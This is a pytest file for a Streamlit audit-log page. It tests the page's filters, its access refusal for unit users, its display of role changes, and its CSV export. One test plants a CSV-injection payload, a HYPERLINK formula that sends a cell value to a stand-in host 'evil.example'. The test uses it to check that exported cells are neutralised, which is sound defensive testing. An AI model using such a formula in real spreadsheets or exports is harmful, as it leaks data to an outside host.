"""操作日志 page: the office filters the log by date, user and action; others are refused."""

from __future__ import annotations

import datetime as dt
from pathlib import Path

import pytest
from streamlit.testing.v1 import AppTest

from data.services import settings_store, users
from data.storage.connect import close_db, get_db
from data.storage.plan import DEFAULT_WEIGHTS
from data.storage.scope import SYSTEM
from tests.pages.conftest import table as table_with
from tests.pages.downloads import capture_downloads, csv_rows

# AppTest puts pages/ on sys.path when it runs a page directly, where pages/requests.py would
# shadow the `requests` package that streamlit-authenticator imports: import it first.
import ui.auth  # noqa: E402, F401  isort: skip

ROOT = Path(__file__).resolve().parents[2]
ADMIN = {"username": "admin", "role": "管理员", "unit_id": None, "display_name": "办公室"}


@pytest.fixture(autouse=True)
def fast_bcrypt(monkeypatch):
    monkeypatch.setattr(users, "BCRYPT_ROUNDS", 4)


@pytest.fixture
def app_db(tmp_path, monkeypatch):
    """Three audited writes today: two user additions by system, one weights change by admin;
    and one row dated 2023-05-10 that the default 30-day window leaves out."""
    path = tmp_path / "audit.duckdb"
    monkeypatch.setenv("DASHBOARD_DB", str(path))
    db = get_db(path)
    db.rows("DELETE FROM audit_log")  # whatever the plan load recorded
    users.add_user(SYSTEM, "admin", "abcdefgh12", "管理员", display_name="办公室", db=db)
    users.add_user(SYSTEM, "leader", "abcdefgh12", "领导", db=db)
    admin = users.scope_of(db, "admin")
    settings_store.set_weights(admin, DEFAULT_WEIGHTS, db=db)
    db.rows("INSERT INTO audit_log (logged_at, username, action, target, detail) "
            "VALUES (TIMESTAMP '2023-05-10 09:00:00', 'admin', '导入', 'a.xlsx', '导入目录')")
    yield db
    close_db(path)


def open_page(scope=ADMIN, **state) -> AppTest:
    at = AppTest.from_file(str(ROOT / "pages" / "audit.py"), default_timeout=30)
    at.session_state["scope"] = scope
    for key, value in state.items():
        at.session_state[key] = value
    return at.run()



@pytest.fixture
def downloads(monkeypatch):
    return capture_downloads(monkeypatch)


def test_default_window_shows_the_last_30_days(app_db):
    at = open_page()
    assert not at.exception
    frame = table_with(at, "变更内容")
    assert list(frame.columns) == ["时间", "用户", "操作", "对象", "说明", "变更内容"]
    # Users by display name, objects by their Chinese name, never a raw code.
    assert frame[["用户", "操作", "对象"]].values.tolist() == [
        ["办公室（admin）", "修改设置", "指标权重"],
        ["系统", "用户管理", "leader"],
        ["系统", "用户管理", "办公室（admin）"],
    ]
    added = frame["变更内容"].tolist()[1]
    assert added == "角色：领导；单位：—；已停用：否；显示名：leader"
    assert "None" not in " ".join(frame["变更内容"]) and "False" not in " ".join(frame["变更内容"])
    assert at.download_button(key="audit_download").label == "下载CSV"


def test_filter_by_user_and_action(app_db):
    at = open_page()
    at.selectbox(key="audit_user").select("system")
    at = at.run()
    assert table_with(at, "变更内容")["对象"].tolist() == ["leader", "办公室（admin）"]
    at.selectbox(key="audit_user").select("全部")
    at.selectbox(key="audit_action").select("修改设置")
    at = at.run()
    assert table_with(at, "变更内容")["用户"].tolist() == ["办公室（admin）"]


def test_filter_by_date(app_db):
    at = open_page()
    at.date_input(key="audit_since").set_value(dt.date(2023, 5, 1))
    at.date_input(key="audit_until").set_value(dt.date(2023, 5, 31))
    at = at.run()
    assert table_with(at, "变更内容")[["时间", "说明"]].values.tolist() == [["2023-05-10 09:00:00", "导入目录"]]
    assert "2023年5月1日至2023年5月31日，共1条记录。" in [m.value for m in at.markdown]


def test_a_unit_user_is_refused(app_db):
    users.add_user(SYSTEM, "finance", "abcdefgh12", "单位", unit_name="县财政局", db=app_db)
    unit_id = app_db.scalar("SELECT unit_id FROM units WHERE name = '县财政局'")
    at = open_page({"username": "finance", "role": "单位", "unit_id": unit_id, "display_name": "finance"})
    assert [e.value for e in at.error] == ["您的账号无权打开此页面。如需使用，请联系领导小组办公室。"]
    assert at.dataframe == []



def test_csv_export_neutralises_formulas(app_db, downloads):
    hostile = '=HYPERLINK("http://evil.example/?leak="&B2,"详情")'
    app_db.rows("INSERT INTO audit_log (logged_at, username, action, target, detail) "
                "VALUES (now()::TIMESTAMP, 'admin', '导入', ?, '-1+1')", [hostile])
    at = open_page()
    assert not at.exception
    assert table_with(at, "变更内容")["对象"].tolist()[0] == hostile  # the page shows what was typed
    (data,) = [v for k, v in downloads.items() if k.startswith("操作日志_")]
    assert data.startswith(b"\xef\xbb\xbf")
    rows = csv_rows(data)
    assert rows[0] == ["时间", "用户", "操作", "对象", "说明", "变更前", "变更后"]
    assert rows[1][2:5] == ["导入", "'" + hostile, "'-1+1"]

def test_a_role_change_reads_before_and_after_with_unit_names(app_db):
    users.add_user(SYSTEM, "finance", "abcdefgh12", "单位", unit_name="县财政局",
                   display_name="财政局经办人", db=app_db)
    admin = users.scope_of(app_db, "admin")
    users.change_role(admin, "finance", "领导", db=app_db)
    users.disable_user(admin, "finance", db=app_db)
    at = open_page()
    frame = table_with(at, "变更内容")
    assert frame["变更内容"].tolist()[:2] == ["已停用：否 → 是", "角色：单位 → 领导；单位：县财政局 → —"]
    assert frame["对象"].tolist()[:3] == ["财政局经办人（finance）"] * 3
    assert frame["变更内容"].tolist()[2] == "角色：单位；单位：县财政局；已停用：否；显示名：财政局经办人"
    # The user filter offers display names.
    assert "财政局经办人（finance）" in at.selectbox(key="audit_user").options
